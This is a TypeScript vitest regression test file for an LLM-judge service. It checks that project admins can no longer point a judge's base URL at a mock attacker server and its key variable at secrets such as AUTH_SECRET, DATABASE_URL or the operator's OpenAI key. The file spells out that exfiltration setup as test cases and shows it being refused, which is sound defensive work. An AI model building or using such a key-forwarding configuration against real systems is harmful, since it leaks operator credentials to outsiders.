import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "../db/client";
import { deleteProject, makeProject, uniqueName } from "../testing/factories";
import { allowJudgeBaseUrls, chatCompletion, startLlmTestServer } from "../testing/llm-test-server";
import { storeTraces } from "../traces/store-traces";
import { traceSchema } from "../traces/trace-schema";
import { askItemQuestion } from "./ask-item-question";
import { runJudges } from "./run-judges";
import { createJudge, updateJudgeConfig } from "./save-judge";

// H1: a project admin chose an llm judge's key variable and base URL, and the worker sent the
// variable's value (AUTH_SECRET, DATABASE_URL, the operator's OpenAI key) there as the Bearer token.
const db = getDb();
const secret = `auth-secret-${uniqueName("leak")}-0123456789`;
const openAiKey = `sk-operator-${uniqueName("key")}`;
const verdict = JSON.stringify({ label: "pass", score: 1, rationale: "ok", issues: [] });
const attacker = await startLlmTestServer(({ text }) =>
  text.includes("case-echo") ? { status: 400, body: { error: { message: "internal page: db password hunter2", code: "bad_thing" } } } : { body: chatCompletion(verdict) },
);
const saved = { AUTH_SECRET: process.env.AUTH_SECRET, OPENAI_API_KEY: process.env.OPENAI_API_KEY };
let projectId: string;
let traceId: string;
let echoTraceId: string;

beforeAll(async () => {
  process.env.AUTH_SECRET = secret;
  process.env.OPENAI_API_KEY = openAiKey;
  projectId = (await makeProject(db, "judge-secrets")).id;
  const { storedIds } = await storeTraces(db, {
    projectId,
    traces: ["case-plain", "case-echo"].map((name) => ({ externalId: name, trace: traceSchema.parse({ environment: "support", input: name, steps: [{ role: "assistant", content: `reply ${name}` }] }) })),
  });
  traceId = storedIds.get("case-plain")!;
  echoTraceId = storedIds.get("case-echo")!;
});
afterAll(async () => {
  for (const [name, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  }
  await deleteProject(db, projectId);
  await attacker.close();
});

/** What an attacker's server learnt: any request at all, and any header carrying a server secret. */
const leaked = () => attacker.requests.filter((request) => JSON.stringify(request.headers).includes(secret) || JSON.stringify(request.headers).includes(openAiKey));

/** A config stored before the fix: written straight to the database, past every save-time check. */
async function storeDirectly(config: Record<string, unknown>) {
  const judge = await db.judge.create({ data: { projectId, name: uniqueName("old-judge"), kind: "llm", versions: { create: { version: 1, config: { kind: "llm", model: "m", maxRetries: 0, ...config } } } }, include: { versions: true } });
  return { judgeId: judge.id, versionId: judge.versions[0]!.id };
}

describe("llm judge endpoints and keys are the operator's", () => {
  it("refuses to save apiKeyEnv=AUTH_SECRET with a baseUrl the admin chose, naming both fields", async () => {
    const name = uniqueName("exfil");
    const save = createJudge(db, { projectId, input: { name, config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m", apiKeyEnv: "AUTH_SECRET" } } });
    await expect(save).rejects.toMatchObject({ code: "bad_request", details: [{ path: "baseUrl" }, { path: "apiKeyEnv" }] });
    await expect(save).rejects.toThrow(/apiKeyEnv AUTH_SECRET is not a key variable the operator allows/);
    expect(await db.judge.count({ where: { projectId, name } })).toBe(0);
  });

  it("refuses AUTH_SECRET, DATABASE_URL and GOODHART_* even on an allowed endpoint with the operator's list naming them", async () => {
    const undo = allowJudgeBaseUrls(attacker.url);
    const keys = process.env.GOODHART_JUDGE_KEY_ENVS;
    process.env.GOODHART_JUDGE_KEY_ENVS = "AUTH_SECRET,DATABASE_URL,GOODHART_ADMIN_PASSWORD,OPENAI_API_KEY";
    try {
      for (const apiKeyEnv of ["AUTH_SECRET", "DATABASE_URL", "GOODHART_ADMIN_PASSWORD"]) {
        await expect(createJudge(db, { projectId, input: { name: uniqueName("exfil"), config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m", apiKeyEnv } } })).rejects.toMatchObject({
          code: "bad_request",
          details: [{ path: "apiKeyEnv" }],
        });
      }
      // The operator's OpenAI key goes to OpenAI or OPENAI_BASE_URL only.
      await expect(createJudge(db, { projectId, input: { name: uniqueName("exfil"), config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m", apiKeyEnv: "OPENAI_API_KEY" } } })).rejects.toThrow(
        /apiKeyEnv OPENAI_API_KEY is only sent to https:\/\/api\.openai\.com/,
      );
    } finally {
      undo();
      if (keys === undefined) delete process.env.GOODHART_JUDGE_KEY_ENVS;
      else process.env.GOODHART_JUDGE_KEY_ENVS = keys;
    }
  });

  it("sends GEMINI_API_KEY only where the operator bound it: refused at save and at call time on another allowed endpoint", async () => {
    const geminiKey = `gemini-${uniqueName("key")}`;
    const undo = allowJudgeBaseUrls(attacker.url);
    process.env.GEMINI_API_KEY = geminiKey;
    try {
      await expect(createJudge(db, { projectId, input: { name: uniqueName("gemini"), config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m", apiKeyEnv: "GEMINI_API_KEY" } } })).rejects.toThrow(
        /apiKeyEnv GEMINI_API_KEY is bound to no endpoint/,
      );
      process.env.GOODHART_JUDGE_KEY_HOSTS = "GEMINI_API_KEY=https://generativelanguage.googleapis.com";
      const stored = await storeDirectly({ baseUrl: `${attacker.url}/v1`, apiKeyEnv: "GEMINI_API_KEY" });
      await expect(runJudges(db, { projectId, judgeIds: [stored.judgeId], traceIds: [traceId] })).resolves.toMatchObject({ errors: 1 });
      expect((await db.verdict.findFirstOrThrow({ where: { judgeVersionId: stored.versionId } })).error).toMatch(/^judge endpoint refused: apiKeyEnv GEMINI_API_KEY is only sent to https:\/\/generativelanguage\.googleapis\.com/);
      expect(attacker.requests.filter((request) => JSON.stringify(request.headers).includes(geminiKey))).toEqual([]);
    } finally {
      undo();
      delete process.env.GEMINI_API_KEY;
      delete process.env.GOODHART_JUDGE_KEY_HOSTS;
    }
  });

  it("refuses a new version that points an existing judge elsewhere", async () => {
    const undo = allowJudgeBaseUrls(attacker.url);
    try {
      const { judge } = await createJudge(db, { projectId, input: { name: uniqueName("ok"), config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m" } } });
      await expect(updateJudgeConfig(db, { projectId, judgeId: judge.id, config: { kind: "llm", baseUrl: `${attacker.url}/v1`, model: "m", apiKeyEnv: "AUTH_SECRET" } })).rejects.toMatchObject({ code: "bad_request" });
      expect(await db.judgeVersion.count({ where: { judgeId: judge.id } })).toBe(1);
    } finally {
      undo();
    }
  });

  it("refuses a config stored before the fix at call time: the verdict is an error and no request reaches the server", async () => {
    const exfil = await storeDirectly({ baseUrl: `${attacker.url}/v1`, apiKeyEnv: "AUTH_SECRET" });
    const vendorKey = await storeDirectly({ baseUrl: `${attacker.url}/v1`, apiKeyEnv: "OPENAI_API_KEY" });
    const result = await runJudges(db, { projectId, judgeIds: [exfil.judgeId, vendorKey.judgeId], traceIds: [traceId] });
    expect(result).toMatchObject({ verdicts: 2, errors: 2 });
    const verdicts = await db.verdict.findMany({ where: { judgeVersionId: { in: [exfil.versionId, vendorKey.versionId] } } });
    expect(verdicts.map((v) => v.error)).toEqual([expect.stringMatching(/^judge endpoint refused: /), expect.stringMatching(/^judge endpoint refused: /)]);
    // Even with the attacker's host allowed by the operator, the secret and the vendor key stay home.
    const undo = allowJudgeBaseUrls(attacker.url);
    try {
      await expect(runJudges(db, { projectId, judgeIds: [exfil.judgeId, vendorKey.judgeId], traceIds: [traceId] })).resolves.toMatchObject({ errors: 2 });
      await expect(askItemQuestion(db, { projectId, judgeVersionId: exfil.versionId, question: "Polite?", trace: traceSchema.parse({ input: "x", steps: [] }) })).rejects.toThrow(/^judge endpoint refused: apiKeyEnv AUTH_SECRET/);
    } finally {
      undo();
    }
    expect(attacker.requests).toHaveLength(0);
  });

  it("sends no vendor key to an allowed self-hosted server, and states an upstream error's status without its body", async () => {
    const undo = allowJudgeBaseUrls(attacker.url);
    try {
      const plain = await storeDirectly({ baseUrl: `${attacker.url}/v1` });
      const result = await runJudges(db, { projectId, judgeIds: [plain.judgeId], traceIds: [traceId, echoTraceId] });
      expect(result).toMatchObject({ verdicts: 2, errors: 1 });
      expect(attacker.requests).toHaveLength(2);
      expect(attacker.requests.map((r) => r.headers.authorization)).toEqual(["Bearer unused", "Bearer unused"]);
      const echo = await db.verdict.findFirstOrThrow({ where: { judgeVersionId: plain.versionId, traceId: echoTraceId } });
      expect(echo.error).toBe("HTTP 400 (bad_thing) from the judge endpoint");
    } finally {
      undo();
    }
    expect(leaked()).toEqual([]);
  });
});
